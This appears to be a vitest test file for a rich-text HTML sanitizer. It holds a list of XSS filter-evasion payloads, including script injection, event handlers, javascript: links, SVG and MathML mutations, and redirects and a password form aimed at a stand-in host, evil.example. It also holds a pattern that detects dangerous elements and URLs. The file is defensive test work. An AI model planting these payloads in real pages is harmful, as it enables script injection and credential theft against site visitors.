import { describe, expect, it } from 'vitest';
import { sanitizeRichText } from './sanitize-rich-text';

/**
 * Common payloads of the XSS filter evasion lists (OWASP's cheat sheet, PortSwigger's), plus the
 * page takeovers that need no script: a meta refresh, a base address, a form, a foreign frame.
 */
const PAYLOADS: [string, string][] = [
  ['a script element', '<script>alert(1)</script>'],
  ['a script split to survive one pass', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['nested script brackets', '<<script>script>alert(1)<</script>/script>'],
  ['an image error handler', '<img src=x onerror=alert(1)>'],
  ['an unclosed image with a handler', '<img src="x" onerror="alert(1)"//'],
  ['a javascript: image', `<IMG SRC="javascript:alert('XSS');">`],
  ['a mixed-case javascript: image', `<IMG SRC=JaVaScRiPt:alert('XSS')>`],
  ['a javascript: link', '<a href="javascript:alert(1)">x</a>'],
  ['a javascript: link with a tab inside', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  [
    'an entity-encoded javascript: link',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  ],
  ['a javascript: link after spaces', '<a href="   javascript:alert(1)">x</a>'],
  ['a vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a data: HTML link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['a protocol-relative link', '<a href="//evil.example/">x</a>'],
  ['a click handler on a good link', '<a href="https://ok.example/" onclick="alert(1)">ok</a>'],
  ['an SVG onload', '<svg onload=alert(1)>'],
  ['a script inside SVG', '<svg><script>alert(1)</script></svg>'],
  ['an SVG animation handler', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
  ['a MathML mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['a noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['a body onload', '<body onload=alert(1)>'],
  ['a details ontoggle', '<details open ontoggle=alert(1)>'],
  ['a video source error', '<video><source onerror=alert(1)></video>'],
  ['an unknown element with a handler', '<x onmouseover=alert(1)>hover</x>'],
  ['a template holding a script', '<template><script>alert(1)</script></template>'],
  ['a meta refresh to a foreign site', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['a base address', '<base href="https://evil.example/">'],
  ['a form posting a password away', '<form action="https://evil.example/"><input name=password></form>'],
  ['a button formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['a frame of an unknown host', '<iframe src="https://evil.example/"></iframe>'],
  ['a javascript: frame', '<iframe src="javascript:alert(1)"></iframe>'],
  ['a srcdoc frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object', '<object data="javascript:alert(1)"></object>'],
  ['an embed', '<embed src="javascript:alert(1)">'],
  ['a stylesheet link', '<link rel=stylesheet href="https://evil.example/x.css">'],
  ['a style element', `<style>@import 'https://evil.example/x.css';</style>`],
  ['a style url()', '<div style="background:url(javascript:alert(1))">x</div>'],
  ['a style expression', '<div style="width: expression(alert(1))">x</div>'],
  ['a page-covering overlay', '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>'],
  ['a class borrowed from the page', '<div class="ant-modal-wrap">x</div>'],
];

const ALLOWED_TAGS = new Set(
  'p br hr div span blockquote pre code h1 h2 h3 h4 h5 h6 ul ol li dl dt dd strong b em i u s sub sup small mark abbr cite q a img figure figcaption iframe table caption colgroup col thead tbody tfoot tr th td'.split(
    ' ',
  ),
);
const URL_ATTRIBUTE = /\s(href|src)="([^"]*)"/gi;
const SAFE_SCHEME = /^(https?:\/\/|mailto:|tel:|data:image\/)/i;
/** An address on this site: a path, not `//host` and not `scheme:`. */
const SAME_SITE = /^(?!\/\/)(?![a-z][a-z0-9+.-]*:)/i;

/** Every way the output could still run code, leave the page or restyle it. */
const dangersIn = (html: string): string[] => {
  const dangers: string[] = [];
  for (const [, tag = ''] of html.matchAll(/<\s*\/?\s*([a-zA-Z][\w:-]*)/g)) {
    if (!ALLOWED_TAGS.has(tag.toLowerCase())) dangers.push(`element <${tag}>`);
  }
  for (const [attribute] of html.matchAll(/\s(on[a-z]+|style|class|srcdoc|formaction|http-equiv)\s*=/gi)) {
    dangers.push(`attribute ${attribute.trim()}`);
  }
  for (const [, name, url = ''] of html.matchAll(URL_ATTRIBUTE)) {
    if (!SAFE_SCHEME.test(url) && !SAME_SITE.test(url)) dangers.push(`${String(name)}="${url}"`);
  }
  for (const [, url = ''] of html.matchAll(/<iframe[^>]*\ssrc="([^"]*)"/gi)) {
    if (!/^https:\/\/(www\.youtube\.com|www\.youtube-nocookie\.com|player\.vimeo\.com)\//.test(url)) {
      dangers.push(`frame of ${url}`);
    }
  }
  if (/javascript:|vbscript:/i.test(html)) dangers.push('a script address');
  return dangers;
};

describe('sanitizeRichText', () => {
  it.each(PAYLOADS)('leaves nothing that runs, redirects or restyles of %s', (_name, payload) => {
    const clean = sanitizeRichText(`<p>before</p>${payload}<p>after</p>`);

    expect(dangersIn(clean)).toEqual([]);
    expect(clean).toMatch(/^<p>before<\/p>/);
  });

  it('keeps the formatting a description uses', () => {
    const html =
      '<h2>What you learn</h2><p>Plain <strong>bold</strong> <em>italic</em></p><ul><li>one</li></ul>' +
      '<table><tbody><tr><td colspan="2">cell</td></tr></tbody></table><img src="/uploads/a.png" alt="cover" />';

    expect(sanitizeRichText(html)).toBe(html);
  });

  it('opens links in a new tab without the opener', () => {
    expect(sanitizeRichText('<a href="https://ok.example/">ok</a>')).toBe(
      '<a href="https://ok.example/" target="_blank" rel="noopener noreferrer">ok</a>',
    );
  });

  it('keeps a frame of the video players the page may frame', () => {
    const frame =
      '<iframe src="https://www.youtube-nocookie.com/embed/abc" title="Preview" allowfullscreen></iframe>';

    expect(sanitizeRichText(frame)).toBe(frame);
  });
});
